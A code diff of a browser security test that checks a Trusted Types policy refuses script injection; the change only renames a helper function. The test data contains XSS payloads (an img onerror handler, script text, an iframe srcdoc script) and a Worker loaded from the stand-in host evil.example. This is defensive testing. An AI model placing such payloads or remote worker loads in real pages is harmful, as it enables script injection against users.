@@ -78,7 +78,7 @@ test('S39: in a browser that knows trusted types no text becomes markup or a wor
   expect(await violations(page)).toEqual([]);
   expect(errors).toEqual([]);
   const refused = await page.evaluate(() => {
-    const told = (work: () => unknown): string => {
+    const reported = (work: () => unknown): string => {
       try {
         work();
         return 'done';
@@ -87,14 +87,14 @@ test('S39: in a browser that knows trusted types no text becomes markup or a wor
       }
     };
     return [
-      told(() => {
+      reported(() => {
         document.createElement('div').innerHTML = '<img src=x onerror="hacked=1">';
       }),
-      told(() => {
+      reported(() => {
         document.createElement('script').text = 'hacked=1';
       }),
-      told(() => new Worker('https://evil.example/worker.js')),
-      told(() => {
+      reported(() => new Worker('https://evil.example/worker.js')),
+      reported(() => {
         document.createElement('iframe').srcdoc = '<script>hacked=1</script>';
       }),
     ];
